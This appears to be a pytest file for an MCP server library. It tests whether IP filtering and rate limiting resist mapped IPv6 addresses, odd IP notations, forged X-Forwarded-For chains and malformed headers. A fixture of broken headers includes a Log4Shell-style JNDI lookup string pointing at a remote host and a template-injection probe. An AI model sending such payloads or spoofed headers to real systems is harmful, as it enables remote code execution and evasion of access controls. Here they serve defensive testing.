"""Who is the client, and may its address call? Odd notations, mapped addresses, forged and broken headers."""

from __future__ import annotations

from collections.abc import Iterable

import pytest
from starlette.applications import Starlette

from frontmcp_py import ConfigurationError, FrontMCP, IPFilter, RateLimit, Throttle
from frontmcp_py.policy import Partition
from tests.cases.asgi import Request, call, code_of_call, serving

PROXY = "10.0.0.2"

MAPPED = ["::ffff:203.0.113.7", "::FFFF:cb00:7107", "0:0:0:0:0:ffff:203.0.113.7", "203.0.113.7"]


def desk(
    most: int = 3,
    ip_filter: IPFilter | None = None,
    trusted: Iterable[str] = ("10.0.0.0/8",),
    by: Partition = "ip",
) -> FrontMCP:
    """A server that lets each address call so often in a minute."""
    server = FrontMCP("desk", throttle=Throttle(ip_filter=ip_filter), trusted_proxies=list(trusted))

    @server.tool(rate_limit=RateLimit(most, 60, partition_by=by))
    async def hello() -> str:
        return "hello"

    return server


def forwarded(app: Starlette, *lines: str | bytes, peer: str | None = PROXY) -> Request:
    """A call that comes with these `X-Forwarded-For` lines."""
    request = call(app, "hello")
    # It is sent when the loop turns.
    request._scope["client"] = None if peer is None else (peer, 50_000)
    for line in lines:
        value = line if isinstance(line, bytes) else line.encode()
        request._scope["headers"].append((b"x-forwarded-for", value))
    return request


async def outcome(request: Request) -> str:
    """`ok`, or the code of a refusal, of whatever kind."""
    await request.task
    if request.status == 403:
        return str((await request.answer())["error"]["data"]["code"])
    assert request.status == 200
    return await code_of_call(request)


# ------------------------------------------------------------------------------------------------- notations


async def test_a_mapped_address_does_not_slip_past_an_ipv4_rule() -> None:
    """agentfront/frontmcp GHSA-hwfp-xv2f-fr8g, pendulum-project/ntpd-rs#2131, cowrie/cowrie#40329."""
    async with serving(desk(10, IPFilter(deny=["203.0.113.0/24"]))) as app:
        assert [await outcome(forwarded(app, peer=peer)) for peer in MAPPED] == ["IP_BLOCKED"] * 4
        assert [await outcome(forwarded(app, peer)) for peer in MAPPED] == ["IP_BLOCKED"] * 4
    async with serving(desk(10, IPFilter(allow=["203.0.113.7"], default="deny"))) as app:
        assert [await outcome(forwarded(app, peer=peer)) for peer in MAPPED] == ["ok"] * 4
        assert [await outcome(forwarded(app, peer)) for peer in MAPPED] == ["ok"] * 4
        assert await outcome(forwarded(app, peer="::ffff:203.0.113.8")) == "IP_NOT_ALLOWED"


async def test_a_mapped_address_has_the_count_of_its_ipv4_address() -> None:
    """The same reports: one address in four notations is one caller."""
    async with serving(desk(3)) as app:
        assert [await outcome(forwarded(app, peer=peer)) for peer in MAPPED] == [
            *["ok"] * 3,
            "RATE_LIMIT_EXCEEDED",
        ]
        assert await outcome(forwarded(app, MAPPED[0])) == "RATE_LIMIT_EXCEEDED"


async def test_a_rule_for_everybody_of_one_family_names_nobody_of_the_other() -> None:
    """The same reports, from the other side."""
    async with serving(desk(10, IPFilter(deny=["::/0"]))) as app:
        assert [await outcome(forwarded(app, peer=peer)) for peer in MAPPED] == ["ok"] * 4
        assert await outcome(forwarded(app, peer="2001:db8::1")) == "IP_BLOCKED"
    async with serving(desk(10, IPFilter(deny=["0.0.0.0/0"]))) as app:
        assert await outcome(forwarded(app, peer="2001:db8::1")) == "ok"
        assert [await outcome(forwarded(app, peer=peer)) for peer in MAPPED] == ["IP_BLOCKED"] * 4


@pytest.mark.parametrize(
    ("written", "is_read"),
    [
        *((" 10.0.0.1", True), ("10.0.0.1\n", True), ("10.0.0.1", True)),
        *((odd, False) for odd in ("010.0.0.1", "0x0a000001", "10.1", "167772161", "0xa.0.0.1", "10.0.0.1.")),
    ],
)
async def test_only_the_plain_notation_is_an_address(written: str, is_read: bool) -> None:
    """vertexproject/synapse#4222, google/ipaddr-py#92: filter and socket read odd notations differently."""
    trusted = ["192.0.2.1"]
    denies = desk(10, IPFilter(deny=["10.0.0.0/8"]), trusted)
    async with serving(denies) as app:
        expected = "IP_BLOCKED" if is_read else "ok"
        assert await outcome(forwarded(app, written, peer=trusted[0])) == expected
    allows = desk(10, IPFilter(allow=["10.0.0.0/8"], default="deny"), trusted)
    async with serving(allows) as app:
        expected = "ok" if is_read else "IP_NOT_ALLOWED"
        assert await outcome(forwarded(app, written, peer=trusted[0])) == expected


# ------------------------------------------------------------------------------------------------ no address


@pytest.mark.parametrize("peer", [None, "", "not-an-ip"])
@pytest.mark.parametrize(
    ("ip_filter", "expected"),
    [
        (IPFilter(allow=["10.0.0.0/8"], default="deny"), "IP_NOT_ALLOWED"),
        (IPFilter(allow=["0.0.0.0/0"], default="deny"), "IP_NOT_ALLOWED"),
        (IPFilter(deny=["10.0.0.0/8"]), "ok"),
    ],
    ids=["allow some", "allow all", "deny some"],
)
async def test_who_has_no_address_is_not_waved_through(
    peer: str | None, ip_filter: IPFilter, expected: str
) -> None:
    """agentfront/frontmcp GHSA-hwfp-xv2f-fr8g: what is missing was taken for what is allowed."""
    async with serving(desk(10, ip_filter)) as app:
        assert await outcome(forwarded(app, peer=peer)) == expected
        # A header does not lend an address to one who has none.
        assert await outcome(forwarded(app, "10.0.0.1", peer=peer)) == expected
        # And who forwards for one without an address has said no more.
        assert await outcome(forwarded(app, peer or "")) == expected


GARBAGE: dict[str, bytes] = {
    "20 kB": b"1" * 20_000,
    "20 kB of commas": b"," * 20_000,
    "20 kB of brackets": b"[" * 20_000,
    "binary": bytes(range(128, 256)),
    "template": b"{{7*7}}",
    "lookup": b"${jndi:ldap://203.0.113.1/x}",
    "last item empty": b"198.51.100.5, ",
    "only empty items": b", ,,",
    "nothing": b"",
    "a name": b"localhost",
    "500 hops": b"203.0.113.1, " * 499 + b"garbage",
}


@pytest.mark.parametrize("garbage", GARBAGE.values(), ids=GARBAGE.keys())
async def test_a_broken_header_is_no_address_and_no_error(
    garbage: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    """stefanprodan/AspNetCoreRateLimit#415: it ended as a server error."""
    server = desk(2, IPFilter(deny=["203.0.113.0/24"]))
    async with serving(server) as app:
        assert await outcome(forwarded(app, garbage)) == "ok"
        # It has the count of all who cannot be told apart.
        assert await outcome(forwarded(app, peer=None)) == "ok"
        assert await outcome(forwarded(app, garbage)) == "RATE_LIMIT_EXCEEDED"
        assert await outcome(forwarded(app, "garbage of another kind")) == "RATE_LIMIT_EXCEEDED"
        # And nobody else's.
        assert await outcome(forwarded(app, "198.51.100.5")) == "ok"
    assert set(server.guard.statistics().tools) == {"hello"}
    assert not [record for record in caplog.records if record.levelname in ("WARNING", "ERROR", "CRITICAL")]


async def test_five_hundred_hops_are_walked_to_the_first_that_is_no_proxy() -> None:
    """The same report."""
    async with serving(desk(1)) as app:
        assert await outcome(forwarded(app, "1.2.3.4, 198.51.100.5" + ", 10.0.0.3" * 500)) == "ok"
        assert await outcome(forwarded(app, "198.51.100.5")) == "RATE_LIMIT_EXCEEDED"
        assert await outcome(forwarded(app, "1.2.3.4")) == "ok"


# ----------------------------------------------------------------------------------------- forged addresses


@pytest.mark.parametrize("trusted", [["10.0.0.0/8"], []], ids=["trusts its proxies", "trusts nobody"])
async def test_a_fresh_address_in_a_header_is_no_fresh_budget(trusted: list[str]) -> None:
    """long2ice/fastapi-limiter#9, nutcas3/lets-bet#9: the left-most hop was believed."""
    async with serving(desk(3, trusted=trusted)) as app:
        outcomes = [
            await outcome(forwarded(app, f"203.0.113.{number}, 192.0.2.{number}", peer="198.51.100.5"))
            for number in range(10)
        ]
        assert outcomes == ["ok"] * 3 + ["RATE_LIMIT_EXCEEDED"] * 7
        # Behind a proxy that is trusted the same client has the same count; else the proxy's, a fresh one.
        expected = "RATE_LIMIT_EXCEEDED" if trusted else "ok"
        assert await outcome(forwarded(app, "1.2.3.4, 198.51.100.5")) == expected
        assert await outcome(forwarded(app, "1.2.3.4", "198.51.100.5")) == expected
        assert await outcome(forwarded(app, "198.51.100.6")) == "ok"


async def test_filter_and_limiter_see_one_address() -> None:
    """The same reports: what the limiter counts is what the filter asks about."""
    async with serving(desk(3, IPFilter(deny=["198.51.100.5", "10.0.0.0/8"]))) as app:
        for lines in (["1.2.3.4, 198.51.100.5"], ["1.2.3.4", "198.51.100.5"], ["198.51.100.5:4711"]):
            assert await outcome(forwarded(app, *lines)) == "IP_BLOCKED"
        # The proxy's own address is asked about only when it forwards for nobody.
        assert [await outcome(forwarded(app, "198.51.100.5, 1.2.3.4")) for _ in range(4)] == [
            *["ok"] * 3,
            "RATE_LIMIT_EXCEEDED",
        ]
        assert await outcome(forwarded(app)) == "IP_BLOCKED"


async def test_one_ipv6_customer_has_one_count_and_the_filter_sees_every_address() -> None:
    """express-rate-limit/express-rate-limit#502, arc-mcp/arc-1#330: one walked through a /64."""
    async with serving(desk(3, IPFilter(deny=["2001:db8:1:2::dead"]))) as app:
        customer = [f"2001:db8:1:2::{number}" for number in range(1, 11)]
        outcomes = [await outcome(forwarded(app, peer=peer)) for peer in customer]
        assert outcomes == ["ok"] * 3 + ["RATE_LIMIT_EXCEEDED"] * 7
        assert await outcome(forwarded(app, "[2001:db8:1:2::11]:443")) == "RATE_LIMIT_EXCEEDED"
        assert await outcome(forwarded(app, peer="2001:db8:1:3::1")) == "ok"
        assert await outcome(forwarded(app, peer="2001:db8:1:2::dead")) == "IP_BLOCKED"


async def test_what_the_filter_refuses_consumes_nothing() -> None:
    """A refused address neither counts against a limit nor stands in any figure."""
    server = desk(1, IPFilter(deny=["203.0.113.7"]), by="global")
    async with serving(server) as app:
        for _ in range(5):
            assert await outcome(forwarded(app, peer="203.0.113.7")) == "IP_BLOCKED"
        assert server.guard.statistics().counts.submitted == 0
        assert await outcome(forwarded(app, peer="203.0.113.8")) == "ok"


# ------------------------------------------------------------------------------------------------- the rules


@pytest.mark.parametrize(
    "rule", ["10.0.0.1/8", "10.0.0.0/33", "example.com", "", "010.0.0.0/8", "10.0.0.0/8 ", "*"]
)
@pytest.mark.parametrize("field", ["allow", "deny"])
def test_a_server_does_not_start_with_fewer_rules_than_it_was_given(field: str, rule: str) -> None:
    """palfrey/ban_allowlist#4, openai/fence#127: a rule that could not be read was dropped."""
    with pytest.raises(ConfigurationError) as caught:
        FrontMCP("desk", throttle={"ip_filter": {field: ["192.0.2.0/24", rule]}})
    assert f"IPFilter.{field}[1]: {rule!r} is not allowed" in str(caught.value)
    with pytest.raises(ConfigurationError) as caught:
        FrontMCP("desk", trusted_proxies=["192.0.2.0/24", rule])
    assert f"FrontMCP.trusted_proxies[1]: {rule!r} is not allowed" in str(caught.value)


@pytest.mark.parametrize(
    ("ip_filter", "expected"),
    [
        (IPFilter(allow=[], deny=[]), "ok"),
        (IPFilter(allow=["192.0.2.1"], deny=[]), "ok"),
        (IPFilter(allow=[], deny=[], default="deny"), "IP_NOT_ALLOWED"),
    ],
    ids=["empty lists", "a list to allow", "nobody"],
)
async def test_an_empty_list_names_nobody(ip_filter: IPFilter, expected: str) -> None:
    """The same reports: the default alone says what an empty list leaves open."""
    async with serving(desk(3, ip_filter)) as app:
        assert await outcome(forwarded(app, peer="203.0.113.7")) == expected
